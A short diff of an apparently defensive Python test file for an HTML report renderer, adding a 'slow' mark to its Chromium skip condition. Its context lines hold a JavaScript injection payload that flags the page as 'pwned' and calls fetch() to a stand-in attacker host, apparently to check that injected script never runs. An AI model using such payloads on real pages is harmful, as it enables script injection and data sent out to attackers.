@@ -16,7 +16,7 @@ from finetune.report import render
 from report_records import records
 
 BROWSER = chromium.find()
-pytestmark = pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")
+pytestmark = [pytest.mark.slow, pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")]
 
 AWAY = "http://attacker.test/"
 ACT = f"window.pwned=1;fetch('{AWAY}');document.title='pwned'"
